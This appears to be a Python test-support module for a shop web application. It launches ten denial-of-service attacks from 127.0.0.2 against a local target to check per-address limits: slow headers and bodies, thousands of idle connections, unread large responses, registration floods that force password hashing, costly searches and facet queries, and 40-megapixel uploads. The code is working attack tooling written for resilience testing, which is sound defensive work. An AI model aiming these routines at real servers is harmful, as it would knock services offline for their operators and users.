"""The attacks, from 127.0.0.2: limits by address distinguish them from bystanders at 127.0.0.1."""

import contextlib
import socket
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from urllib.parse import urlsplit

import requests
from requests.adapters import HTTPAdapter

from shop.dev.testing.images import flat_png

ADDRESS = "127.0.0.2"
WORDS = ("shirt", "blue mug", "cotton", "lamp of steel")
PASSWORD = "attackers-password-1"  # noqa: S105


@dataclass
class Target:
    url: str
    stop: threading.Event

    @property
    def host(self) -> str:
        return urlsplit(self.url).netloc

    def connect(self) -> socket.socket:
        parts = urlsplit(self.url)
        return socket.create_connection((parts.hostname, parts.port), timeout=10, source_address=(ADDRESS, 0))

    def session(self) -> requests.Session:
        session = requests.Session()
        session.trust_env = False
        adapter = _FromAddress(pool_maxsize=64)
        session.mount("http://", adapter)
        return session


class _FromAddress(HTTPAdapter):
    def init_poolmanager(self, *args: object, **kwargs: object) -> None:
        super().init_poolmanager(*args, **kwargs, source_address=(ADDRESS, 0))  # type: ignore[arg-type]


def late_bodies(target: Target) -> None:
    """Four connections send the headers of a POST at once and its body of 40 bytes 12 s later, repeatedly."""
    while not target.stop.is_set():
        sockets = _begin_posts(target, 4)
        target.stop.wait(12)
        _send_all(sockets, b" " * 40)
        _close(sockets)


def slow_bodies(target: Target) -> None:
    """Forty connections, half of them to the webhook, send one byte of a body every five seconds."""
    sockets = _begin_posts(target, 40)
    while not target.stop.wait(5):
        sockets = _send_all(sockets, b" ")
        sockets += _begin_posts(target, 40 - len(sockets))
    _close(sockets)


def many_slow_bodies(target: Target) -> None:
    """Two and a half thousand connections send one byte of a body every three seconds."""
    sockets = _begin_posts(target, 2500)
    while not target.stop.wait(3):
        sockets = _send_all(sockets, b" ")
        sockets += _begin_posts(target, 2500 - len(sockets))
    _close(sockets)


def slow_heads(target: Target) -> None:
    """Two hundred connections send one byte of a header every five seconds."""
    sockets = _open(target, 200, f"GET /api/v1/products/ HTTP/1.1\r\nHost: {target.host}\r\nX-A: ".encode())
    while not target.stop.wait(5):
        sockets = _send_all(sockets, b"a")
        sockets += _open(target, 200 - len(sockets), b"GET / HTTP/1.1\r\nX-A: ")
    _close(sockets)


def idle_connections(target: Target) -> None:
    """Twelve hundred connections send nothing."""
    sockets = _open(target, 1200, b"")
    target.stop.wait()
    _close(sockets)


def slow_readers(target: Target) -> None:
    """A hundred connections request large pages and do not read the responses."""
    request = f"GET /api/v1/products/?page_size=100 HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    sockets = _open(target, 100, request * 20)
    target.stop.wait()
    _close(sockets)


def password_hashes(target: Target) -> None:
    """59 clients register concurrently, and again after each pause of five seconds, within a limit by address."""
    with target.session() as http, ThreadPoolExecutor(59) as crowd:
        while not target.stop.is_set():
            list(crowd.map(lambda number: _register(target, http, f"{time.time_ns()}-{number}"), range(59)))
            target.stop.wait(5)


def facets(target: Target) -> None:
    """64 connections request facets over all products, each with different filters."""

    def ask(number: int) -> None:
        with target.session() as http:
            while not target.stop.is_set():
                price = time.time_ns() % 100_000 / 100 + number
                with contextlib.suppress(requests.RequestException):
                    http.get(f"{target.url}/api/v1/products/facets/?max_price={price:.2f}", timeout=30)

    with ThreadPoolExecutor(64) as crowd:
        list(crowd.map(ask, range(64)))


def searches(target: Target) -> None:
    """128 connections request searches and far pages of the product list, each with different words."""

    def ask(number: int) -> None:
        with target.session() as http:
            while not target.stop.is_set():
                word = f"{WORDS[number % len(WORDS)]}{time.time_ns() % 1000}"
                query = f"search={word}&page_size=100" if number % 2 else f"page_size=100&page={50 + number % 50}"
                with contextlib.suppress(requests.RequestException):
                    http.get(f"{target.url}/api/v1/products/?{query}", timeout=30)

    with ThreadPoolExecutor(128) as crowd:
        list(crowd.map(ask, range(128)))


def uploads(target: Target) -> None:
    """40 clients upload images of 40 megapixels concurrently."""
    picture = flat_png(8000, 5000)
    with target.session() as http:
        reply = _register(target, http, f"{time.time_ns()}")
        headers = {"Authorization": f"Bearer {reply.json()['access']}"} if reply is not None and reply.ok else {}

    def send(_: int) -> None:
        with target.session() as http:
            while not target.stop.is_set():
                with contextlib.suppress(requests.RequestException):
                    files = {"image": ("a.png", picture, "image/png")}
                    http.put(f"{target.url}/api/v1/users/me/avatar/", files=files, headers=headers, timeout=60)

    with ThreadPoolExecutor(40) as crowd:
        list(crowd.map(send, range(40)))


ATTACKS: list[Callable[[Target], None]] = [
    late_bodies,
    slow_bodies,
    many_slow_bodies,
    slow_heads,
    idle_connections,
    slow_readers,
    password_hashes,
    facets,
    searches,
    uploads,
]


def _register(target: Target, http: requests.Session, name: str) -> requests.Response | None:
    body = {"email": f"attacker-{name}@example.com", "password": PASSWORD, "name": "Attacker"}
    try:
        return http.post(f"{target.url}/api/v1/auth/register/", json=body, timeout=60)
    except requests.RequestException:
        return None


def _begin_posts(target: Target, count: int) -> list[socket.socket]:
    sockets = []
    for number in range(count):
        if target.stop.is_set():
            break
        path = ("/api/v1/auth/login/", "/api/v1/payments/webhook/")[number % 2]
        lines = [
            f"POST {path} HTTP/1.1",
            f"Host: {target.host}",
            "Content-Type: application/json",
            "Content-Length: 40",
        ]
        sockets += _open(target, 1, "\r\n".join([*lines, "", ""]).encode())
    return sockets


def _open(target: Target, count: int, first_bytes: bytes) -> list[socket.socket]:
    sockets = []
    for _ in range(count):
        if target.stop.is_set():
            break
        with contextlib.suppress(OSError):
            connection = target.connect()
            sockets.append(connection)
            if first_bytes:
                connection.sendall(first_bytes)
    return sockets


def _send_all(sockets: list[socket.socket], data: bytes) -> list[socket.socket]:
    alive = []
    for connection in sockets:
        try:
            connection.sendall(data)
        except OSError:
            connection.close()
        else:
            alive.append(connection)
    return alive


def _close(sockets: list[socket.socket]) -> None:
    for connection in sockets:
        connection.close()
